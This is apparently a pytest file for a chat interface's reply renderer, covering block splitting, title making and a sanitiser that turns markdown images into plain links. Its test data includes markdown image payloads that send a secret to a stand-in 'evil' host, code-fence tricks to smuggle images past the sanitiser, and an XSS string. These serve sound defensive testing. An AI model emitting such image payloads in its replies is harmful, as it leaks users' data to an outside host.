"""A reply's words on their way to the screen: blocks, harmlessness, titles."""

from __future__ import annotations

import time

import pytest

from components.conversations.words import as_typed, blocks, harmless, title_of

TALK = """First paragraph
over two lines.

1. one

   indented under one

2. two

After the list.

```python
a = 1

b = 2
```

| a | b |
|---|---|
| 1 | 2 |

End."""


def test_blocks_are_paragraphs_lists_tables_and_fences() -> None:
    assert blocks(TALK) == [
        "First paragraph\nover two lines.",
        "1. one\n\n   indented under one\n\n2. two",
        "After the list.",
        "```python\na = 1\n\nb = 2\n```",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "End.",
    ]


def test_blocks_lose_nothing() -> None:
    assert "\n\n".join(blocks(TALK)) == TALK


@pytest.mark.parametrize("text", ["", "\n\n", "   \n"])
def test_nothing_has_no_blocks(text: str) -> None:
    assert blocks(text) == []


def test_finished_blocks_stay_while_the_text_grows() -> None:
    """What was drawn is drawn again only at the end of the text: that is what makes streaming cheap."""
    redrawn = 0
    drawn: list[str] = []
    for end in range(len(TALK)):
        found = blocks(TALK[:end])
        redrawn += sum(old != new for old, new in zip(drawn[:-2], found, strict=False))
        drawn = found
    assert redrawn == 0


def test_a_fence_that_is_still_open_is_one_block() -> None:
    assert blocks("Look:\n\n```\na\n\n# not a heading\n") == ["Look:", "```\na\n\n# not a heading"]


@pytest.mark.parametrize(
    ("words", "shown"),
    [
        ("![x](http://evil/?q=secret)", "[x](http://evil/?q=secret)"),
        ("![x][ref]", "[x][ref]"),
        ("![a [b] c](http://evil)", r"!\[a [b] c](http://evil)"),
        ("![x]", r"!\[x]"),
        (r"\![x](http://evil)", r"\[x](http://evil)"),
        ("`![x](http://evil)`", "`[x](http://evil)`"),
        ("`vec![1]` grows", "`vec![1]` grows"),
        ("    ![x](http://evil)", "    [x](http://evil)"),
    ],
)
def test_a_picture_becomes_a_link(words: str, shown: str) -> None:
    assert harmless(words) == shown


@pytest.mark.parametrize(
    "trick",
    [
        "a ` b\n` ![x](http://evil) `",
        "`` ` ![x](http://evil)",
        r"\` ![x](http://evil) \`",
        "- ` a\n- ![x](http://evil) `",
        "~~~\n~~~ ![x](http://evil)\n~~~\n![x](http://evil)",
        "``` a`b\n![x](http://evil)",
        "> ```\n![x](http://evil)",
    ],
)
def test_no_trick_with_code_lets_a_picture_through(trick: str) -> None:
    outside = [line for line in harmless(trick).splitlines() if not line.startswith("~~~ ")]
    assert "![" not in "\n".join(outside).replace(r"!\[", "")


def test_fenced_code_stays_as_it_is() -> None:
    code = "```\n![x](y) costs $5 and $6\n```"
    assert harmless(code) == code


def test_money_is_no_formula() -> None:
    assert harmless("between $5 and $10") == r"between \$5 and \$10"
    assert harmless("`$5` and $x$ and $$y$$") == "`$5` and $x$ and $$y$$"
    assert harmless(r"already \$5") == r"already \$5"


def test_a_question_is_shown_as_it_was_typed() -> None:
    assert as_typed("# one\n  two *three*\n") == "# one\n  two *three*"
    assert as_typed("See:\n```\na < b\n```\nRight?") == "See:<pre>```\na &lt; b\n```</pre>Right?"


def test_a_question_is_never_read_as_html() -> None:
    assert as_typed('<img src=x onerror=alert(1)> & "so"') == "&lt;img src=x onerror=alert(1)&gt; &amp; &quot;so&quot;"


@pytest.mark.parametrize(
    ("question", "title"),
    [
        ("What is the capital of France?", "What is the capital of France?"),
        ("\n  second line first\nrest", "second line first"),
        ("March has 21 trading days and February 20. How?", "March has 21 trading days and February 20 …"),
        ("x" * 90, "x" * 44 + " …"),
        ("   ", "New conversation"),
    ],
)
def test_a_title_is_the_first_line_cut_at_a_word(question: str, title: str) -> None:
    assert title_of(question) == title


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("![" * 60_000, id="pictures that never end"),
        pytest.param(" ".join("`" * size for size in range(600)), id="code that never ends"),
        pytest.param("![a](b) `c` " * 10_000, id="many of both"),
    ],
)
def test_a_reply_that_repeats_itself_is_made_harmless_in_no_time(text: str) -> None:
    began = time.monotonic()
    assert "![" not in harmless(text)
    assert time.monotonic() - began < 2
